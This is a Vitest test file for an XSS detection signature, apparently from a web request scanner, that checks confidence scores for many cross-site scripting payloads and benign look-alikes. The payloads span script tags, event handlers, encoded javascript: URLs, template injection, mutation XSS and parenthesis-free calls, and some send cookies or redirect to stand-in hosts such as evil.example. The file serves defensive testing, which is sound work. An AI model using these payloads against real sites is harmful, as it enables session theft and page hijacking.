import { describe, expect, test } from 'vitest';
import { xss } from '../../../src/attacks/signatures/xss.ts';
import { formBody, foundIn } from '../found-in.ts';
import { confidenceOf, xssIn } from './xss-text.ts';

const CALL = 'alert(1)';

/** The same script for every place a page may put a value. */
const BY_CONTEXT: Readonly<Record<string, readonly string[]>> = {
  'the text of a page': [
    `<script>${CALL}</script>`,
    `<img src=x onerror=${CALL}>`,
    `<svg/onload=${CALL}`,
    `<x\0 onclick=${CALL}>`,
  ],
  'a quoted attribute': [`"><svg onload=${CALL}>`, `" onfocus=${CALL} autofocus x="`, `'onmouseover='${CALL}`],
  'an unquoted attribute or a tag': [`x onfocus=${CALL}`, `autofocus/onfocus=${CALL}`],
  'a string of a script': [`';${CALL}//`, `"-${CALL}-"`, `\\';${CALL}//`, `'});${CALL};({'`, `\`+${CALL}+\``],
  'a script': [CALL, `1;${CALL}`, `}${CALL};{`, `*/${CALL}/*`, `\${${CALL}}`],
  'an element without markup': [`</title><script>${CALL}</script>`, `--><img src=x onerror=${CALL}>`],
  'an address': [
    `javascript:${CALL}`,
    `data:text/html,<script>${CALL}</script>`,
    `java\tscript:${CALL}`,
    `\x01JavaScript:${CALL}`,
  ],
  'a style sheet': [`<p style="x:expression(${CALL})">`, `<style>a{b:url(javascript:${CALL})}</style>`],
  'a template': [
    `<b ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)'>`,
    `{{constructor.constructor('${CALL}')()}}`,
    `<b ng-click="x.constructor.constructor('${CALL}')()">`,
  ],
};

describe.each(Object.entries(BY_CONTEXT))('a value that lands in %s', (_, values) => {
  test.each(values)('%j is an attack', (value) => {
    expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.7);
  });
});

/** Attributes and elements that run a script address. */
test.each([
  '<a href="URL">x</a>',
  "<a href='URL'>x</a>",
  '<a xlink:href=URL>x</a>',
  '<form action=URL>',
  '<button formaction="URL">',
  '<iframe src=URL>',
  '<object data=URL>',
  '<embed src=URL>',
  '<meta http-equiv=refresh content="0;url=URL">',
  '<svg><set attributeName=href to=URL>',
  '<param name=movie value=URL>',
  '<table background=URL>',
])('%s runs every spelling of a script address', (markup) => {
  for (const url of [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java&#10;script:alert(1)',
    '&#106;avascript&colon;alert(1)',
    'javascript:%61lert(1)',
    'vbscript:MsgBox(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:text/html,%3Cscript%3Ealert(1)%3C/script%3E',
  ]) {
    expect(confidenceOf(markup.replace('URL', url)), url).toBeGreaterThanOrEqual(0.8);
  }
});

test('an event that does not exist yet is an event', () => {
  expect(confidenceOf('<x onsomethingnew=alert(1)>')).toBeGreaterThanOrEqual(0.9);
  expect(confidenceOf('<x onsomethingnew=1>')).toBeGreaterThanOrEqual(0.5);
});

test.each([
  '<audio onwebkitplaybacktargetavailabilitychanged=load(1)>',
  '<x oncontentvisibilityautostatechange=load(1) style=content-visibility:auto>',
  '1 oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto ',
  '" oncontentvisibilityautostatechange="load(1)" style="content-visibility:auto',
])('an event may have the longest name that browsers know: %j', (value) => {
  expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.6);
});

test.each([
  '<math><mtext><table><mglyph><style><math><img src=x onerror="box.innerHTML=box.innerText">',
  '<svg><style><image href=x onerror=load(1)></style></svg>',
])('elements in a style sheet are read as a drawing or a formula has them: %j', (value) => {
  expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.6);
});

test('markup inside of values is looked into', () => {
  for (const markup of [
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="/x?q=<script>alert(1)</script>">',
    '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1) /></svg>#x">',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x">',
  ]) {
    expect(confidenceOf(markup), markup).toBeGreaterThanOrEqual(0.75);
  }
});

test.each(["'+alert(1)+'", '"+confirm(document.domain)+"', "location='//a.example/'+document.cookie"])(
  'a plus that an address has as it was typed: %s',
  (value) => {
    expect(foundIn(xss, { query: `q=${value}` })).toHaveLength(1);
    expect(foundIn(xss, { query: 'q="red+alert"+alert+"more"' })).toEqual([]);
    expect(foundIn(xss, formBody({ q: '"a" print("b") "c"' }))).toEqual([]);
  },
);

test('a script of a host that pages take theirs from is asked for by nobody, and kept by editors', () => {
  const script = '<script src=https://cdn.jsdelivr.net/gh/ann/pages/index.js></script>';
  expect(foundIn(xss, { query: `q=${encodeURIComponent(script)}` })).toHaveLength(1);
  expect(foundIn(xss, formBody({ content: script }))).toEqual([]);
});

test('the finding says what it is and where', () => {
  const text = 'Hello <b>you</b><img src=x onerror=alert(1)>';
  expect(xssIn(text)).toEqual({
    pattern: 'event handler attribute onerror',
    confidence: 0.95,
    at: text.indexOf('<img'),
  });
});

test.each(['alert/**/(1)', '",prompt/* a */(1)', "'-alert//\n(1)-'", "eval/**/(atob/**/('YWxlcnQoMSk='))"])(
  'a comment between a name and its call separates nothing: %j',
  (value) => {
    expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.7);
  },
);

test('a remark in parentheses is no call, with a comment elsewhere', () => {
  expect(confidenceOf('/* note */ please confirm (yes or no)')).toBe(0);
});

test.each([
  'open`javascript:alert\\x281\\x29`',
  'navigation.navigate`javascript:alert\\x281\\x29`',
  'location=/javascript:/.source+confirm.name+/(1)/.source',
  "'alert\\x281\\x29'instanceof{[Symbol.hasInstance]:eval}",
])('script runs without a parenthesis: %j', (value) => {
  expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.7);
});

test.each([
  'location.href = target; return !/javascript:/.test(target)',
  'if (error instanceof EvalError) return confirm;',
  'link`javascript: the good parts`',
])('a program that only names what could run is none: %j', (value) => {
  expect(confidenceOf(value)).toBeLessThan(0.5);
});

test.each([
  '";location.href="//evil.example"//',
  "';document.location.href='http://evil.example/';'",
  '";window.open("http://evil.example");//',
  "'-open('//evil.example')-'",
])('who leaves a string of the page may send it to another host: %j', (value) => {
  expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.7);
});

test.each([
  '"; location.href = "/cart"; "',
  "window.open('https://shop.example/size-chart')",
  'window.location.href = "https://shop.example/cart";',
  'a = ""; link.href = "https://shop.example";',
  'link = document.createElement("a"); link.href = "https://shop.example";',
])('a program that links or opens a page is no break-out: %j', (value) => {
  expect(confidenceOf(value)).toBeLessThan(0.5);
});

test.each([
  '<i title="onfocus=alert(1) autofocus x">',
  "<i title='onfocus=alert(1) autofocus ' lang=a>",
  'see <i title="onmouseover=alert(1) x">there</i>',
  `<i title="x y='" lang="' onfocus=alert(1) autofocus z='">`,
])('what a tag of the value quotes breaks out of the attribute that the tag is put into: %j', (value) => {
  expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.9);
});

test('a list that is ordered by a name is none', () => {
  expect(confidenceOf(`<li ng-repeat="x in rows | orderBy:'-name'">{{x.name}}</li>`)).toBe(0);
});

describe('a page is printed, or another opened', () => {
  test.each([
    '<img src=x onerror=print()>',
    '<svg onload=print()>',
    '<input autofocus onfocus="window.print()">',
    '<body onresize=print()>',
    "<img src=x onerror=window.open('https://shop.example/')>",
  ])('by what nobody does to that end: %j', (value) => {
    expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.6);
  });

  test.each([
    '<body onload="window.print()">',
    '<button onclick="print()">Print</button>',
    '<a href="#" onclick="window.print(); return false">Print</a>',
    `<a onclick="window.open('https://shop.example/size-chart')">Sizes</a>`,
    `<a href="#" onclick="window.open('https://shop.example/size-chart'); return false">Sizes</a>`,
  ])('by who asks for it: %j', (value) => {
    expect(confidenceOf(value)).toBeLessThan(0.5);
  });
});

test.each(['<x ng-click=$event.view.open(1)>', "<x #='_c.constructor`alert(1)`()'>"])(
  'an expression of a template in an attribute that reaches the window: %j',
  (value) => {
    expect(confidenceOf(value)).toBeGreaterThanOrEqual(0.9);
  },
);

test.each(['<button ng-click="pick($event.target.value)">', '<template #item="{ value = pick(1) }">'])(
  'an expression of a template in an attribute that stays in it: %j',
  (value) => {
    expect(confidenceOf(value)).toBeLessThan(0.5);
  },
);

test.each([
  `https://a.example/"onmouseover="go()`,
  `//a.example/b?c=d'onclick='run(1)`,
  `https://a.example/" onfocus="go()" autofocus x="`,
])('an address that leaves its attribute for an event is found, whatever that runs: %s', (value) => {
  expect(foundIn(xss, value)).not.toEqual([]);
  expect(foundIn(xss, formBody({ link: value, name: 'a' }))).not.toEqual([]);
});

test.each([`https://a.example/?q="onclick"`, `the link "https://a.example/" onclick="go()" was asked`])(
  'an address that is only followed by one is none: %s',
  (value) => {
    expect(foundIn(xss, value)).toEqual([]);
  },
);
